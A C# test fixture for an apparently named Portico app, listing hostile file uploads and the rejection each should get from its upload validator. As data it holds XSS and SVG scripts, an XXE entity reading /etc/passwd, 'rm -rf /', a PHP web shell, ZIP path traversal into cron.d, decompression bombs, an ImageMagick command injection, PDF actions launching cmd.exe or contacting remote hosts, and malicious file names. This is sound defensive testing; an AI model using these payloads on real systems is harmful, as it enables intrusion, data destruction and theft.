using System.IO.Compression;
using System.Text;
using static Portico.App.Tests.Files.Samples;

namespace Portico.App.Tests.Files;

/// <summary>What must not come through. Accepted are those that become harmless: a new picture without what was hidden in it, under a name of ours.</summary>
internal static class Hostile
{
    public const string Harmless = "accepted", Marker = "PWNED";

    private const string Script = "<script>alert('PWNED')</script>", Html = "<!doctype html><html><body onload=alert('PWNED')>hi</body></html>", Svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert('PWNED')</script></svg>";

    private const string JavaScript = "/OpenAction<</S/JavaScript/JS(app.alert('PWNED'))>>";

    public sealed record Upload(string What, string Name, Func<byte[]> Content, string Outcome);

    /// <summary>A megabyte that becomes a gigabyte.</summary>
    private static readonly byte[] Bomb = Repeated(new byte[1 << 20], 1_024);

    public static readonly IReadOnlyList<Upload> All =
    [
        // --- other things under the name of a photo or a document
        new("HTML called .jpg", "photo.jpg", () => Latin(Html), "file.kind_any"),
        new("HTML called .pdf", "bill.pdf", () => Latin(Html), "file.kind_any"),
        new("SVG with a script", "mark.svg", () => Latin(Svg), "file.kind_any"),
        new("SVG called .png", "mark.png", () => Latin(Svg), "file.kind_any"),
        new("SVG with a byte order mark", "mark.jpg", () => [0xEF, 0xBB, 0xBF, .. Latin(Svg)], "file.kind_any"),
        new("XML with an external entity", "a.png", () => Latin("<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"), "file.kind_any"),
        new("a script of a shell", "photo.png", () => Latin("#!/bin/sh\nrm -rf /\n"), "file.kind_any"),
        new("a program for Windows", "photo.jpg.exe", () => Latin("MZ\x90\0\x03\0\0\0 PWNED"), "file.kind_any"),
        new("a program for Linux", "photo.jpg", () => [0x7F, .. Latin("ELF PWNED")], "file.kind_any"),
        new("Java", "a.pdf", () => [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52], "file.kind_any"),
        new("PHP", "shell.php", () => Latin("<?php system($_GET['c']); ?>"), "file.kind_any"),
        new("PHP with two endings", "shell.php.jpg", () => Latin("<?php system($_GET['c']); ?>"), "file.kind_any"),
        new("a ZIP", "photos.zip", () => Zip("a.txt", Marker), "file.kind_any"),
        new("a ZIP that leaves its folder", "bill.pdf", () => Zip("../../etc/cron.d/x", Marker), "file.kind_any"),
        new("a Word file with macros", "letter.docm", () => Zip("word/vbaProject.bin", Marker), "file.kind_any"),
        new("an old Word file", "letter.doc", () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1], "file.kind_any"),
        new("a GIF with a script", "a.gif", () => Latin("GIF89a/*PWNED*/=1;"), "file.kind_any"),
        new("a TIFF", "a.tif", () => [.. "II*\0"u8, 8, 0, 0, 0], "file.kind_any"),
        new("a BMP", "a.bmp", () => [.. "BM"u8, 0, 0, 0, 0, 0, 0, 0, 0, 26, 0, 0, 0, 0, 0, 0], "file.kind_any"),
        new("an icon", "a.ico", () => [0, 0, 1, 0, 1, 0, 16, 16, 0, 0, 1, 0, 32, 0, 0, 0], "file.kind_any"),
        new("PostScript", "a.pdf", () => Latin("%!PS-Adobe-3.0\n(/etc/passwd) (r) file"), "file.kind_any"),
        new("a short cut of Windows", "a.lnk", () => [0x4C, 0, 0, 0, 1, 0x14, 2, 0], "file.kind_any"),
        new("a film", "a.mp4", () => [0, 0, 0, 0x18, .. "ftypmp42"u8, 0, 0, 0, 0], "file.kind_any"),
        new("a photo that we cannot open", "IMG_0001.HEIC", () => [0, 0, 0, 0x18, .. "ftypheic"u8, 0, 0, 0, 0], "file.heic"),
        new("ImageMagick's own language", "a.mvg", () => Latin("push graphic-context\nfill 'url(https://x/\"|ls \"-la)'\npop graphic-context"), "file.kind_any"),
        new("text in UTF-16", "a.jpg", () => [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(Html)], "file.kind_any"),
        new("nothing but the first two bytes of a JPEG", "a.jpg", () => [0xFF, 0xD8], "file.kind_any"),
        new("zeroes", "a.png", () => new byte[4_096], "file.kind_any"),

        // --- pictures that are none
        new("a JPEG of three bytes", "a.jpg", () => [0xFF, 0xD8, 0xFF], "file.damaged"),
        new("HTML behind the first bytes of a JPEG", "a.jpg", () => [0xFF, 0xD8, 0xFF, 0xE0, .. Latin(Html)], "file.damaged"),
        new("HTML behind the first bytes of a PNG", "a.png", () => [.. Png[..8], .. Latin(Html)], "file.damaged"),
        new("HTML behind the first bytes of a WebP", "a.webp", () => [.. "RIFF"u8, 0, 1, 0, 0, .. "WEBP"u8, .. Latin(Html)], "file.damaged"),
        new("a JPEG that was cut off", "a.jpg", () => Jpeg[..(Jpeg.Length / 2)], "file.damaged"),
        new("a PNG that was cut off", "a.png", () => Png[..(Png.Length - 40)], "file.damaged"),
        new("a WebP that was cut off", "a.webp", () => WebP[..(WebP.Length / 2)], "file.damaged"),
        new("a PNG with a broken check sum", "a.png", () => Changed(Png, 20), "file.damaged"),
        new("a PNG whose picture cannot be unpacked", "a.png", () => PngOf(64, 64, Latin(Script)), "file.damaged"),
        new("a PNG without any width", "a.png", () => PngOf(0, 64, []), "file.damaged"),
        new("a PNG with a width below zero", "a.png", () => PngOf(-1, 64, []), "file.damaged"),
        new("a PNG with less picture than it says", "a.png", () => PngOf(512, 512, Deflated(new byte[64])), "file.damaged"),

        // --- floods
        new("a PNG of 2,500 megapixels", "a.png", () => PngOf(50_000, 50_000, Deflated(new byte[1_024])), "file.too_many_pixels"),
        new("a PNG of 41 megapixels that is a few kilobytes", "a.png", () => PngOf(6_410, 6_410, Deflated(new byte[6_411 * 6_410])), "file.too_many_pixels"),
        new("a PNG that is a line of 100 megapixels", "a.png", () => PngOf(100_000_000, 1, Deflated(new byte[1_024])), "file.damaged"),
        new("a JPEG that says it has 400 megapixels", "a.jpg", () => WithSize(Jpeg, 20_000, 20_000), "file.too_many_pixels"),
        new("a JPEG that says it has 4,294 megapixels", "a.jpg", () => WithSize(Jpeg, 65_535, 65_535), "file.damaged"),
        new("a PNG with a megabyte of compressed text that becomes a gigabyte", "a.png", () => PngOf(8, 8, Deflated(new byte[9 * 8]), ("zTXt", [.. Latin("Comment\0\0"), .. Bomb])), Harmless),
        new("a PNG with a colour profile that is a bomb", "a.png", () => PngOf(8, 8, Deflated(new byte[9 * 8]), ("iCCP", [.. Latin("x\0\0"), .. Bomb])), Harmless),
        new("a PDF whose packed objects become a gigabyte", "a.pdf", () => Pdf(objects: $"3 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length 1>>\nstream\n{Latin(Bomb)}\nendstream\nendobj"), "file.damaged"),

        // --- two things in one
        new("a JPEG with HTML behind it", "a.jpg", () => [.. Jpeg, .. Latin(Html)], Harmless),
        new("a JPEG with a ZIP behind it", "a.jpg", () => [.. Jpeg, .. Zip("a.txt", Marker)], Harmless),
        new("a JPEG with a script as its comment", "a.html", () => [0xFF, 0xD8, 0xFF, 0xFE, 0, (byte)(Script.Length + 2), .. Latin(Script), .. Jpeg[2..]], Harmless),
        new("a JPEG with PHP as its camera", "a.php", () => JpegWithExif(1, "<?php echo 'PWNED'; ?>"), Harmless),
        new("a PNG with a script as its text", "a.png", () => PngOf(8, 8, Deflated(new byte[9 * 8]), ("tEXt", Latin("Comment\0" + Script))), Harmless),
        new("a PNG with a script behind it", "a.png", () => [.. Png, .. Latin(Script)], Harmless),
        new("a WebP with a script behind it", "a.webp", () => [.. WebP, .. Latin(Script)], Harmless),
        new("a PDF with a ZIP behind it", "a.pdf", () => [.. Pdf(), .. Zip("a.txt", Marker)], "file.damaged"),
        new("a PDF with HTML behind it", "a.pdf", () => [.. Pdf(), .. Latin(Html)], "file.damaged"),
        new("a PDF with HTML before it", "a.pdf", () => [.. Latin(Html), .. Pdf()], "file.kind_any"),
        new("a PDF in the comment of a JPEG", "a.jpg", () => [0xFF, 0xD8, 0xFF, 0xFE, 1, 200, .. Pdf().Concat(new byte[454]).Take(454), .. Jpeg[2..]], Harmless),

        // --- documents that act
        new("a PDF with a script", "a.pdf", () => Pdf(JavaScript), "file.pdf_active"),
        new("a PDF with a script whose name is written in numbers", "a.pdf", () => Pdf("/OpenAction<</S/J#61v#61Scr#69pt/JS(app.alert('PWNED'))>>"), "file.pdf_active"),
        new("a PDF with a script in its packed objects", "a.pdf", () => PdfWithPacked("3 0 <</S/JavaScript/JS(app.alert('PWNED'))>>"), "file.pdf_active"),
        new("a PDF with packed objects whose kind is written in numbers", "a.pdf", () => PdfWithPacked("3 0 <</S/JavaScript>>", "/Type/Obj#53tm/N 1/First 4/Filter/FlateDecode"), "file.pdf_active"),
        new("a PDF with objects that are packed twice", "a.pdf", () => PdfWithPacked("3 0 <<>>", "/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]"), "file.pdf_active"),
        new("a PDF with packed objects in another file", "a.pdf", () => PdfWithPacked("3 0 <<>>", "/Type/ObjStm/N 1/First 4/F(http://x)/Filter/FlateDecode"), "file.pdf_active"),
        new("a PDF with packed objects that cannot be unpacked", "a.pdf", () => Pdf(objects: "3 0 obj\n<</Type/ObjStm/Filter/FlateDecode>>\nstream\nPWNED\nendstream\nendobj"), "file.damaged"),
        new("a PDF that starts a program", "a.pdf", () => Pdf("/OpenAction<</S/Launch/F(cmd.exe)>>"), "file.pdf_active"),
        new("a PDF with a file in it", "a.pdf", () => Pdf("/Names<</EmbeddedFiles<</Names[(a.exe)3 0 R]>>>>"), "file.pdf_active"),
        new("a PDF that sends a form", "a.pdf", () => Pdf("/OpenAction<</S/SubmitForm/F(http://x)>>"), "file.pdf_active"),
        new("a PDF with a form of its own program", "a.pdf", () => Pdf("/AcroForm<</XFA 3 0 R>>"), "file.pdf_active"),
        new("a PDF with a film", "a.pdf", () => Pdf(objects: "3 0 obj <</Subtype/RichMedia>> endobj"), "file.pdf_active"),
        new("a PDF that opens another file", "a.pdf", () => Pdf("/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share)>>"), "file.pdf_active"),
        new("a PDF with a password", "a.pdf", () => Pdf(end: "trailer<</Encrypt 9 0 R>>\n%%EOF"), "file.pdf_locked"),
        new("a PDF that was cut off", "a.pdf", () => Pdf()[..80], "file.damaged"),
        new("a PDF of five bytes", "a.pdf", () => Latin("%PDF-"), "file.damaged"),

        // --- names
        new("a name that leaves its folder", "../../../../etc/passwd", () => Png, Harmless),
        new("a name that leaves its folder on Windows", "..\\..\\windows\\win.ini", () => Png, Harmless),
        new("a name with NUL", "a.php\0.png", () => Png, Harmless),
        new("a name that is read backwards", "bill\u202Egnp.exe", () => Png, Harmless),
        new("a name with a new line and a header", "a\r\nSet-Cookie: x=PWNED\r\n.png", () => Png, Harmless),
        new("a name with quotes and markup", "\"><img src=x onerror=alert(1)>.png", () => Png, Harmless),
        new("a name of 10,000 letters", new string('a', 10_000) + ".png", () => Png, Harmless),
        new("a name of nothing but dots", "....", () => Png, Harmless),
        new("no name", "", () => Png, Harmless),
        new("a name with half a character", "a\uD800b.png", () => Png, Harmless),
        new("a name that is a device", "CON.png", () => Png, Harmless),
        new("a name with two endings", "bill.pdf.exe", () => Png, Harmless),
        new("a name in combining marks", "a" + string.Concat(Enumerable.Repeat("\u0301", 3_000)) + ".png", () => Png, Harmless),
    ];

    private static byte[] Zip(string name, string text)
    {
        using var zip = new MemoryStream();
        using (var archive = new ZipArchive(zip, ZipArchiveMode.Create, leaveOpen: true))
        using (var entry = new StreamWriter(archive.CreateEntry(name, CompressionLevel.NoCompression).Open())) entry.Write(text);
        return zip.ToArray();
    }

    private static byte[] Repeated(byte[] content, int times)
    {
        using var packed = new MemoryStream();
        using (var deflate = new ZLibStream(packed, CompressionLevel.Fastest)) for (var i = 0; i < times; i++) deflate.Write(content);
        return packed.ToArray();
    }

    private static byte[] Changed(byte[] bytes, int at)
    {
        bytes[at] ^= 0xFF;
        return bytes;
    }

    private static byte[] WithSize(byte[] jpeg, int width, int height)
    {
        var at = jpeg.AsSpan().IndexOf((ReadOnlySpan<byte>)[0xFF, 0xC0]) is >= 0 and var found ? found : throw new InvalidOperationException("No frame in this JPEG.");
        (jpeg[at + 5], jpeg[at + 6], jpeg[at + 7], jpeg[at + 8]) = ((byte)(height >> 8), (byte)height, (byte)(width >> 8), (byte)width);
        return jpeg;
    }
}
